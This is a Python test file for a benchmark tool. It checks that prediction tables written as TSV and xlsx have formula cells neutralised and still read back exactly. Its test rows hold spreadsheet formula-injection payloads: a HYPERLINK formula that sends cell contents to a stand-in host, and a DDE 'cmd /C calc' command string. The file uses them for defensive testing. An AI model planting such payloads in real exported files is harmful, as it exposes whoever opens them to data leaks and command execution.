"""Prediction tables people open in a spreadsheet hold no formula, and scifig reads back the exact text
(:mod:`scifig_tasks.vlmeval.prediction_tables`); the dataset TSV a prompt is built from keeps its text.

In process: TSV and xlsx files written as VLMEvalKit writes them (``dump``: every TSV cell quoted; xlsx through
xlsxwriter, which stores a text starting with ``=`` as a formula). Through the command line: one ``scifig vlmeval``
run of the chance model on GRAB questions and image names that start as formulas.
"""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import pandas as pd
import pytest

from scifig_tasks.core.spreadsheet_cells import MARKER, MARKER_COLUMN, needs_quote
from scifig_tasks.vlmeval.prediction_tables import EXACT_COLUMNS, make_formula_safe, read_table
from tests.harness import warm_start
from tests.harness.lmms import CLI_TIMEOUT_S, offline_env

ROWS = [
    {
        "index": "0",
        "question": '=HYPERLINK("http://example.invalid/?q="&A1,"open")',
        "answer": "-3",
        "prediction": "=5",
    },
    {"index": "1", "question": "+1+cmd|' /C calc'!A0", "answer": "2.50", "prediction": "- a bullet"},
    {"index": "2", "question": "@SUM(1+1)", "answer": "'quoted", "prediction": "'quoted reply"},
    {"index": "3", "question": "\tTab first", "answer": "-2+3", "prediction": "plain"},
]


def vlmeval_tsv(path: Path, rows: list[dict[str, str]]) -> Path:
    pd.DataFrame(rows).to_csv(path, sep="\t", index=False, encoding="utf-8", quoting=csv.QUOTE_ALL)
    return path


def formula_cells(path: Path) -> list[str]:
    """The cells of an xlsx stored as formulas."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [cell.coordinate for row in book.worksheets[0].iter_rows() for cell in row if cell.data_type == "f"]


def test_a_tsv_is_made_formula_safe_and_read_back_exactly(tmp_path: Path) -> None:
    path = vlmeval_tsv(tmp_path / "fake_grab.tsv", ROWS)

    assert make_formula_safe(path) is True
    assert make_formula_safe(path) is False  # marked: never escaped twice

    written = pd.read_csv(path, sep="\t", dtype=str, keep_default_na=False)
    assert set(written[MARKER_COLUMN]) == {MARKER}
    escaped = [column for column in written.columns if column not in (*EXACT_COLUMNS, MARKER_COLUMN)]
    assert not [cell for column in escaped for cell in written[column] if needs_quote(cell) and cell[0] != "'"]
    assert written["question"].tolist()[0].startswith("'=HYPERLINK(") and written["answer"].tolist()[0] == "-3"
    assert written["prediction"].tolist() == [row["prediction"] for row in ROWS]  # VLMEvalKit reads it back
    assert read_table(path).to_dict("records") == ROWS


def test_an_xlsx_holds_no_formula_and_reads_back_exactly(tmp_path: Path) -> None:
    path = tmp_path / "fake_grab.xlsx"
    pd.DataFrame(ROWS).to_excel(path, index=False, engine="xlsxwriter")  # VLMEvalKit's dump
    assert formula_cells(path) == ["B2", "D2"]  # =HYPERLINK(...) and the reply =5
    assert read_table(path).to_dict("records") == ROWS  # a formula cell read as its text (pandas would read 0)

    assert make_formula_safe(path) is True

    assert formula_cells(path) == []
    assert read_table(path).to_dict("records") == ROWS


def test_files_without_the_marker_are_read_as_written(tmp_path: Path) -> None:
    plain = [{"index": "0", "question": "'as VLMEvalKit wrote it", "prediction": "A"}]
    tsv = vlmeval_tsv(tmp_path / "fake_grab.tsv", plain)
    assert make_formula_safe(tsv) is True  # a cell starting with the quote is escaped too, so it round-trips
    assert read_table(tsv).to_dict("records") == plain
    safe = vlmeval_tsv(tmp_path / "safe_grab.tsv", [{"index": "0", "question": "Which?", "prediction": "=5"}])
    before = safe.read_bytes()
    assert make_formula_safe(safe) is False and safe.read_bytes() == before  # only the reply starts so: untouched
    listed = tmp_path / "fake_grab.json"
    listed.write_text(json.dumps(ROWS))
    assert make_formula_safe(listed) is False and read_table(listed).to_dict("records") == ROWS


# ---- through the command line --------------------------------------------------------------------------------------

QUESTIONS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"open") [q0] What is the y-intercept? Give your answer as an integer.',
    "+1+cmd|' /C calc'!A0 [q1] What is the y-intercept? Give your answer as an integer.",
    "@SUM(1+1) [q2] What is the y-intercept? Give your answer as an integer.",
    "'quoted' [q3] What is the y-intercept? Give your answer as an integer.",
]


@pytest.mark.slow  # one scifig vlmeval run of the chance model
@pytest.mark.cli
def test_vlmeval_prediction_table_is_formula_safe_and_the_prompt_data_exact(tmp_path: Path) -> None:
    pytest.importorskip("vlmeval", reason="VLMEvalKit (ms-vlmeval) not installed")
    from tests.harness.grab_data import Row, records, write_records

    rows = records([Row("properties", "-3"), Row("function", "4"), Row("series", "5"), Row("transform", "-6")])
    for row, question in zip(rows, QUESTIONS, strict=True):
        row["question"] = question
    rows[1]["image"] = "-2+3.png"
    data = write_records(rows, tmp_path / "GRAB.parquet")
    env = offline_env(tmp_path) | {"SCIFIG_GRAB_DATA": str(data), "LMUData": str(tmp_path / "LMUData")}
    command = [sys.executable, "-m", "scifig_tasks.commands.main", "vlmeval", "--model", "scifig_chance"]
    command += ["--data", "grab", "--work-dir", str(tmp_path / "work")]

    done = warm_start.run(command, env, cwd=tmp_path, timeout=CLI_TIMEOUT_S)

    assert done.returncode == 0, done.stderr[-4000:]
    prompts = pd.read_csv(tmp_path / "LMUData" / "grab.tsv", sep="\t", dtype=str, keep_default_na=False)
    assert prompts["question"].tolist() == QUESTIONS  # an input file: the prompt's exact text
    assert MARKER_COLUMN not in prompts.columns
    out = tmp_path / "work" / "scifig_chance"
    table = out / "scifig_chance_grab.tsv"
    written = pd.read_csv(table, sep="\t", dtype=str, keep_default_na=False)
    assert written["question"].tolist() == ["'" + question for question in QUESTIONS]
    assert written["source_image"].tolist()[1] == "'-2+3.png" and written["answer"].tolist() == ["-3", "4", "5", "-6"]
    assert set(written[MARKER_COLUMN]) == {MARKER}
    replies = [json.loads(line)["prediction"] for line in (out / "scifig_chance_grab_scifig_records.jsonl").open()]
    assert written["prediction"].tolist() == replies  # the replies exact: VLMEvalKit reads them back
    read = read_table(table)
    assert read["question"].tolist() == QUESTIONS and read["source_image"].tolist()[1] == "-2+3.png"
    assert MARKER_COLUMN not in read.columns
